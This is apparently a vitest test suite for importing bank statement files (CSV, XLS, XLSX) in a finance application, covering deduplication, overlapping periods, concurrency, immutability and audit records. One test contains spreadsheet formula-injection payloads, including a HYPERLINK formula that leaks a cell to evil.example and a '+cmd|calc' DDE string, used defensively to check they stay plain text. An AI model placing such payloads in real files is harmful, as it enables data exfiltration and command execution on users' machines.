import { afterAll, beforeAll, beforeEach, expect, test } from 'vitest'
import { newId } from '../../../server/core/ids.ts'
import { readStatement } from '../../../server/features/statements/read-statement.ts'
import { readStatementFile } from '../../../server/features/statements/read-statement-file.ts'
import { makeStaff } from '../../support/people.ts'
import { openWorld, type World } from '../../support/world.ts'
import {
  account,
  asCsv,
  asXls,
  asXlsx,
  type Booked,
  book,
  gridOf,
  linesOf,
  makePayeeAccount,
  month,
  taken,
  upload,
} from './arrange.ts'

let world: World
let clerk: { id: string; name: string; cookie: string }
let payeeAccountId: string
/** Each test has an account of its own, so that one's lines are no other's neighbours. */
let number: string
let accounts = 0

beforeAll(async () => {
  world = await openWorld()
  clerk = await makeStaff(world, 'finance')
})
afterAll(() => world.close())
beforeEach(async () => {
  number = `${account.slice(0, -4)}${String(1000 + accounts++)}`
  payeeAccountId = await makePayeeAccount(world, { account: number })
})

const grid = (lines: readonly Booked[], laid: Parameters<typeof gridOf>[1] = {}) =>
  gridOf(lines, { ownAccount: number, ...laid })
const countLines = () => world.deps.db.statementLine.count({ where: { payeeAccountId } })
const matchJobs = async () =>
  (await world.boss.fetch('reconciliation.match', { batchSize: 100, ignoreStartAfter: true })).length

test('a statement is taken in: lines, period, account, and matching is asked for', async () => {
  await matchJobs()
  const lines = month('2026-03')
  const file = await taken(world, clerk.cookie, asXlsx(grid(lines)), { name: '三月.xlsx' })
  expect(file).toMatchObject({
    state: 'imported',
    fileName: '三月.xlsx',
    account: number,
    payeeAccount: { id: payeeAccountId },
    lineCount: 56,
    newCount: 56,
    rowsRead: 56,
    gapCount: 0,
    rowErrorCount: 0,
    firstDay: '2026-03-01',
    lastDay: '2026-03-28',
    error: null,
  })
  const [first] = await linesOf(world, clerk.cookie, file.id)
  expect(first).toMatchObject({
    day: '2026-03-01',
    time: '10:00:00',
    direction: 'in',
    amountFen: 100_000,
    balanceFen: 100_100_000,
    counterpartyName: '南京恒瑞工程质量检测有限公司',
    counterpartyAccount: '32052045828925913',
    remark: '培训费',
    category: 'payment',
    state: 'unmatched',
    ignoredReason: null,
  })
  const [out] = await linesOf(world, clerk.cookie, file.id, { direction: 'out' })
  expect(out).toMatchObject({ category: 'out', state: 'ignored', ignoredReason: 'out', ignoredByName: null })
  expect(await matchJobs()).toBe(1)
  const audits = await world.deps.db.auditEntry.findMany({ where: { subjectId: file.id }, orderBy: { id: 'asc' } })
  expect(audits.map(({ action }) => action)).toEqual(['statement.received', 'statement.imported'])
  expect(audits[1]?.after).toMatchObject({ lines: 56, new: 56, gaps: 0 })
})

test('the same bytes under another name or id are the same file', async () => {
  const bytes = asCsv(grid(month('2026-03')))
  const first = await upload(world, clerk.cookie, bytes, { name: 'a.csv' })
  const again = await upload(world, clerk.cookie, bytes, { name: 'a.csv', id: first.id })
  const copy = await upload(world, clerk.cookie, bytes, { name: 'a (1).csv' })
  expect(again).toMatchObject({ status: 200, id: first.id, known: false })
  expect(copy).toMatchObject({ status: 200, id: first.id, known: true })
  const other = await upload(world, clerk.cookie, asCsv(grid(month('2026-04'))), { id: first.id })
  expect(other.code).toBe('idempotencyKeyReused')
})

test('the same export again, in another format and the other way round, adds nothing', async () => {
  const lines = month('2026-03')
  await taken(world, clerk.cookie, asXlsx(grid(lines)))
  const again: [string, Uint8Array][] = [
    ['newest first', asXlsx(grid(lines, { newestFirst: true }))],
    ['as .csv', asCsv(grid(lines, { amounts: 'comma' }))],
    ['as .xls', asXls(grid(lines))],
    ['without serials', asCsv(grid(lines, { without: ['serial'] }))],
    ['without times', asCsv(grid(lines, { without: ['time', 'serial'] }))],
    ['without balances', asCsv(grid(lines, { without: ['balance'] }))],
    ['with hardly anything', asCsv(grid(lines, { without: ['balance', 'serial', 'time', 'account'] }))],
  ]
  for (const [name, bytes] of again) {
    const file = await taken(world, clerk.cookie, bytes, { name })
    expect([name, file.state, file.lineCount, file.newCount]).toEqual([name, 'imported', 56, 0])
  }
  expect(await countLines()).toBe(56)
})

test('overlapping months bring only what is new, whichever comes first', async () => {
  const all = [...month('2026-03'), ...month('2026-04', month('2026-03').at(-1)?.balanceFen ?? 0)]
  const [march, both, late] = [all.slice(0, 56), all, all.slice(40)]
  const second = await taken(world, clerk.cookie, asCsv(grid(late, { newestFirst: true })), { name: 'late.csv' })
  expect(second).toMatchObject({ newCount: 72, gapCount: 0 })
  const first = await taken(world, clerk.cookie, asXlsx(grid(march)), { name: 'march.xlsx' })
  expect(first).toMatchObject({ lineCount: 56, newCount: 40, gapCount: 0 })
  const third = await taken(world, clerk.cookie, asXls(grid(both)), { name: 'both.xls' })
  expect(third).toMatchObject({ lineCount: 112, newCount: 0, gapCount: 0 })
  expect(await countLines()).toBe(112)
})

test('two equal payments of one day are two, also when the second is in a later export', async () => {
  const twice = book([
    { date: '2026-03-02', fen: 50_000, serial: '', time: '' },
    { date: '2026-03-02', fen: 50_000, serial: '', time: '' },
  ])
  const bare = { without: ['balance', 'serial', 'time'] } as const
  await taken(world, clerk.cookie, asCsv(grid(twice.slice(0, 1), bare)), { name: 'noon.csv' })
  const evening = await taken(world, clerk.cookie, asCsv(grid(twice, bare)), { name: 'evening.csv' })
  expect(evening).toMatchObject({ lineCount: 2, newCount: 1 })
  const again = await taken(world, clerk.cookie, asXlsx(grid(twice, bare)), { name: 'again.xlsx' })
  expect(again).toMatchObject({ lineCount: 2, newCount: 0 })
})

test('an export that was pasted twice into one file counts once', async () => {
  const lines = month('2026-03')
  const [head = [], ...rest] = [grid(lines).slice(0, 3), ...grid(lines).slice(3)]
  const file = await taken(
    world,
    clerk.cookie,
    asCsv([...(head as string[][]), ...(rest as string[][]), ...(rest as string[][])]),
  )
  expect(file).toMatchObject({ state: 'imported', lineCount: 112, newCount: 56, repeatedCount: 56, gapCount: 0 })
})

test('files of one account that are read at the same time bring each line once', async () => {
  const lines = month('2026-03')
  const files = [asCsv(grid(lines)), asXlsx(grid(lines)), asXls(grid(lines)), asCsv(grid(lines, { newestFirst: true }))]
  const sent = await Promise.all(files.map((bytes, index) => upload(world, clerk.cookie, bytes, { name: `f${index}` })))
  await Promise.all(sent.map(({ id }) => readStatementFile(world.deps, { fileId: id })))
  expect(await countLines()).toBe(56)
  const read = await world.deps.db.statementFile.findMany({ where: { payeeAccountId } })
  expect(read.map(({ newCount }) => newCount).toSorted()).toEqual([0, 0, 0, 56])
})

test('a job that comes again, for a file that is taken in, changes nothing', async () => {
  const file = await taken(world, clerk.cookie, asCsv(grid(month('2026-03'))))
  await readStatementFile(world.deps, { fileId: file.id })
  await readStatementFile(world.deps, { fileId: newId() })
  expect(await countLines()).toBe(56)
  expect(await world.deps.db.auditEntry.count({ where: { subjectId: file.id, action: 'statement.imported' } })).toBe(1)
})

test('what the bank said cannot be changed or taken away, whoever tries', async () => {
  const file = await taken(world, clerk.cookie, asCsv(grid(month('2026-03'))))
  const [line] = await linesOf(world, clerk.cookie, file.id)
  if (!line) throw new Error('a line')
  const change = world.deps.db.statementLine.update({ where: { id: line.id }, data: { amountFen: 1n } })
  await expect(change).rejects.toThrow()
  await expect(world.deps.db.statementLine.delete({ where: { id: line.id } })).rejects.toThrow()
})

test('formulas and markup stay what they are: texts', async () => {
  const evil = '=HYPERLINK("http://evil.example/?"&A1,"x")'
  const lines = book([{ date: '2026-03-02', fen: 50_000, name: '+cmd|calc', remark: evil, account: '@SUM(1)' }])
  const file = await taken(world, clerk.cookie, asCsv(grid(lines)))
  const [line] = await linesOf(world, clerk.cookie, file.id)
  expect(line).toMatchObject({ counterpartyName: '+cmd|calc', remark: evil })
})

test('a long file lets the worker breathe while it is read: its other jobs say that they live meanwhile', async () => {
  const lines = book(Array.from({ length: 20_000 }, (_, n) => ({ date: '2026-03-02', fen: 100 + n, serial: `S${n}` })))
  let turns = 0
  const timer = setInterval(() => turns++, 1)
  const reading = await readStatement(asCsv(grid(lines)), { fileName: 'long.csv' })
  clearInterval(timer)
  expect(reading.lines).toHaveLength(20_000)
  expect(turns).toBeGreaterThan(5)
})
